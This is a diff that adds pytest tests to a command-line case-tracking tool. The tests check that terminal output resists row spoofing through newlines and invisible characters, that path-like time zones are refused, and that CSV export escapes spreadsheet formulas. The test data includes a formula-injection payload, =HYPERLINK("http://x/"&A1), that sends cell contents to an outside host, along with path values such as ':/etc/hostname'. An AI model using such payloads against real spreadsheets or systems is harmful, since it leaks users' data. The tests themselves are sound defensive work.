@@ -39,6 +39,39 @@ def test_who_only_pretends_to_be_the_daemon_does_not_write_to_the_terminal(kit):
         assert "a?[2Jb??1mc???d" in out and not set(out) & set("\x1b\u009b\u202e"), (words, out)
 
 
+def test_a_title_on_two_lines_is_one_row(kit):
+    """It was two rows of the list, the second of which the title had written itself."""
+    kit.good(*SUBMIT, "--yes", "--text", "甲\n乙")
+    case = next(iter(kit.daemon.cases.values()))
+    case.whistle.title = "a\n261127-0099-1  closed\tb\u2028c\u200bd\u200fe"
+    lines = len(kit.good("list").splitlines())
+    assert lines == 2 and "a?261127-0099-1  closed?b???c???d???e" in kit.good("list")
+    unseen = set("\t\u2028\u200b\u200f")
+    for words in (("show", "260213-0001-1"), ("watch", "260213-0001-1"), ("watch", "--for", "cg", "--once", "--consumer", "x"),
+                  ("show", "260213-0001-1", "--slip"), ("list", "--csv")):
+        out = kit.good(*words)
+        assert not set(out) & unseen and not any(line.startswith("261127") for line in out.splitlines()), words
+
+
+def test_what_is_told_on_several_lines_is_one_cell(kit):
+    number = kit.submit()
+    kit.good("comment", number, "--text", "一\n261127-0099-1  closed\u200b")
+    for words in (("watch", "--for", "cg", "--once"), ("show", number)):
+        out = kit.good(*words)
+        assert "一 261127-0099-1  closed" in out and "\u200b" not in out, out
+    assert json.loads(kit.good("show", number, "--json"))["happenings"][-1]["text"].startswith("一\n"), "whole"
+
+
+@pytest.mark.parametrize("zone", [":/etc/hostname", "/usr/share/zoneinfo/Asia/Tokyo", "../zoneinfo/Asia/Tokyo", "Asia/To kyo"])
+def test_a_zone_that_is_a_path_is_not_taken(kit, zone):
+    """The C library opens it as a file, and what watch --exec starts inherits it."""
+    kit.daemon.zone = zone
+    assert kit.submit()
+    assert "2026-02-13T00:00:00+00:00" in kit.good("list", "--csv", TZ="UTC"), "the machine's own"
+    kit.daemon.zone = "Asia/Tokyo"
+    assert "2026-02-13T09:00:00+09:00" in kit.good("list", "--csv", TZ="UTC")
+
+
 def test_submit_carries_every_field(kit):
     photo = kit.directory / "photo.jpg"
     photo.write_bytes(b"light")
@@ -170,6 +203,18 @@ def test_list_csv_and_json(kit):
     row = json.loads(kit.good("list", "--json"))
     assert row["title"] == '他说 "快,点"' and row["state"] == "dispatched" and row["overdue"] is True
     assert row["due_ms"] == 1770940800000 and row["due"] == "2026-02-13T08:00:00+08:00"
+
+
+def test_csv_holds_no_formula(kit):
+    """A spreadsheet ran a title as one: =HYPERLINK sent away what stood beside it."""
+    titles = ['=HYPERLINK("http://x/"&A1)', "+A1", "-A1", "@sum", "＝A1", "-5", "+8613800138000", "a=b"]
+    for title in titles:
+        kit.submit(title)
+    rows = list(csv.DictReader(io.StringIO(kit.good("list", "--csv")[1:])))
+    told = {row["title"] for row in rows}
+    assert told == {"'" + title for title in titles[:5]} | set(titles[5:])
+    kit.daemon.fact_pages[0][0].title = titles[0]
+    assert '"\'=HYPERLINK(""http://x/""&A1)"' in kit.good("rates", "--cases", "rework", "--csv")
 
 
 def test_show_in_six_steps_json_and_slip(kit):
